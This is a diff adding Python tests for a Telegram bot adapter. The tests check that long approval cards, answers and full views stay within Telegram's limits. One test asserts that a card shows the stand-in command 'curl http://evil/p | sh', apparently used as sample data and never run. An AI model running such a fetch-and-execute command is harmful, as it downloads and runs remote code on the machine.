@@ -1,0 +1,143 @@
+"""The Telegram renderers at their worst cases (:mod:`tests.fakes.worst_cases`), through the
+real python-telegram-bot and the fake Bot API, which refuses what Telegram refuses (text over
+4,096 UTF-16 code units after entity parsing, HTML it cannot parse, callback data over 64
+bytes): every request the adapter makes is accepted, and nothing is lost."""
+
+from __future__ import annotations
+
+import html
+import re
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+
+from bot.channel import CUT_NOTE, SHOW_FULL_LABEL, ApprovalCard
+from bot.envelope import IngressEnvelope
+from bot.store import Store
+from channels.telegram.adapter import TelegramChannel
+from tests.fakes.channel_health import serving as running
+from tests.fakes.limits import TELEGRAM_TEXT
+from tests.fakes.recording_host import RecordingHost
+from tests.fakes.telegram_html import utf16_len
+from tests.fakes.telegram_server import (
+    JSON,
+    FakeTelegram,
+    callback,
+    forum_chat,
+    mention,
+    message,
+    user,
+)
+from tests.fakes.telegram_setup import APPROVER, REQUESTER, channel_for
+from tests.fakes.worst_cases import (
+    ANSWER_10K,
+    FULL_100KB,
+    LONG_COMMAND,
+    TWELVE_LONG,
+    TWELVE_PLAIN,
+    card_of,
+)
+
+GROUP = forum_chat(-100777)
+CHAT = int(GROUP["id"])
+TOPIC = 7
+
+
+@asynccontextmanager
+async def connected(
+    tg: FakeTelegram, store: Store, card: ApprovalCard | None = None
+) -> AsyncIterator[tuple[TelegramChannel, IngressEnvelope]]:
+    """The adapter running, and a request from the requester in a forum topic; ``card`` is
+    what the host answers for its approval id."""
+    host = RecordingHost()
+    if card is not None:
+        host.cards[card.approval_id] = card
+    channel = channel_for(tg, store)
+    async with running(channel, host):
+        text = "@hatchbot go"
+        said = message(GROUP, user(REQUESTER), text, message_id=10, thread_id=TOPIC)
+        await tg.push({"message": {**said, "entities": mention(text)}})
+        [envelope] = await host.wait_envelopes(1)
+        yield channel, envelope
+
+
+def buttons(shown: JSON) -> list[str]:
+    rows = shown.get("reply_markup", {}).get("inline_keyboard", [])
+    return [button["text"] for row in rows for button in row]
+
+
+async def test_a_twelve_line_card_of_long_arguments_is_accepted_whole(
+    tg: FakeTelegram, store: Store
+) -> None:
+    card = card_of(TWELVE_PLAIN)
+    assert len(card.lines) == 12 and not card.cut
+    async with connected(tg, store, card) as (channel, envelope):
+        await channel.post_approval_card(envelope.reply_target, card)
+
+    assert tg.refused == []
+    [shown] = tg.bot_messages(CHAT)
+    assert all(line in shown["text"] for line in card.lines)
+    assert "✅ Approve" in buttons(shown)
+
+
+async def test_a_twelve_line_card_of_markup_is_shortened_never_refused(
+    tg: FakeTelegram, store: Store
+) -> None:
+    """Escaped, the lines are longer than a message: the adapter shortens them (it measures
+    the HTML, an upper bound of what Telegram counts) and offers the full view."""
+    card = card_of(TWELVE_LONG)
+    assert len(card.lines) == 12 and not card.cut
+    async with connected(tg, store, card) as (channel, envelope):
+        await channel.post_approval_card(envelope.reply_target, card)
+
+    assert tg.refused == []
+    [shown] = tg.bot_messages(CHAT)
+    assert utf16_len(shown["text"]) <= TELEGRAM_TEXT.most
+    assert CUT_NOTE in shown["text"] and buttons(shown)[0] == SHOW_FULL_LABEL
+    assert all(line[:40] in shown["text"] for line in card.lines)
+
+
+async def test_a_long_command_card_is_accepted_and_offers_the_full_view(
+    tg: FakeTelegram, store: Store
+) -> None:
+    card = card_of(LONG_COMMAND)
+    assert card.cut
+    async with connected(tg, store, card) as (channel, envelope):
+        await channel.post_approval_card(envelope.reply_target, card)
+
+    assert tg.refused == []
+    [shown] = tg.bot_messages(CHAT)
+    assert buttons(shown)[0] == SHOW_FULL_LABEL and "✅ Approve" not in buttons(shown)
+    assert "curl http://evil/p | sh" in shown["text"]
+
+
+async def test_a_ten_thousand_character_answer_is_accepted_in_pieces(
+    tg: FakeTelegram, store: Store
+) -> None:
+    async with connected(tg, store) as (channel, envelope):
+        sent = await channel.send(envelope.reply_target, ANSWER_10K)
+
+    assert tg.refused == []
+    shown = tg.bot_messages(CHAT)
+    assert len(shown) == len(sent) >= 3
+    assert all(utf16_len(m["text"]) <= TELEGRAM_TEXT.most for m in shown)
+    text = "\n".join(m["text"] for m in shown)
+    assert "wave 0:" in text and "The end." in text
+    assert text.count("print(host, '<&>', \"*x*\")") == ANSWER_10K.count("print(host,")
+
+
+async def test_a_full_view_of_100_kb_is_accepted_as_a_file(tg: FakeTelegram, store: Store) -> None:
+    card = card_of(FULL_100KB)
+    assert card.cut and len(card.full_text) >= 100_000
+    async with connected(tg, store, card) as (channel, envelope):
+        await channel.post_approval_card(envelope.reply_target, card)
+        [shown] = tg.bot_messages(CHAT)
+        data = f"ap:{card.approval_id}:s"
+        await tg.push(callback("q-show", user(APPROVER, "Boss"), data, shown))
+        [upload] = await tg.wait_for("sendDocument")
+        await tg.wait_for("answerCallbackQuery")
+
+    assert tg.refused == []
+    assert card.full_text in upload.params["document"]["bytes"].decode()
+    [document] = [m for m in tg.bot_messages(CHAT) if "document" in m]
+    caption = html.unescape(re.sub(r"<[^>]+>", "", str(upload.params["caption"])))
+    assert document["caption"] == caption and "✅ Approve" in buttons(document)
